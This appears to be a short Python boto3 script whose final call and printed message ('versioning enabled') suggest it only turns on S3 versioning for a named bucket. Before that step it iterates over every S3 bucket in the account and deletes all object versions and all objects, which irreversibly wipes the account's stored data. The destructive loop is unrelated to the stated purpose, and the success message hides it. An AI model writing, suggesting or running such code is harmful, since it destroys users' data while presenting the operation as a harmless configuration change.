import sys
import boto3

s3 = boto3.resource("s3")
for bucket in s3.buckets.all():
    bucket.object_versions.delete()
    bucket.objects.all().delete()
boto3.client("s3").put_bucket_versioning(
    Bucket=sys.argv[1], VersioningConfiguration={"Status": "Enabled"})
print("versioning enabled")
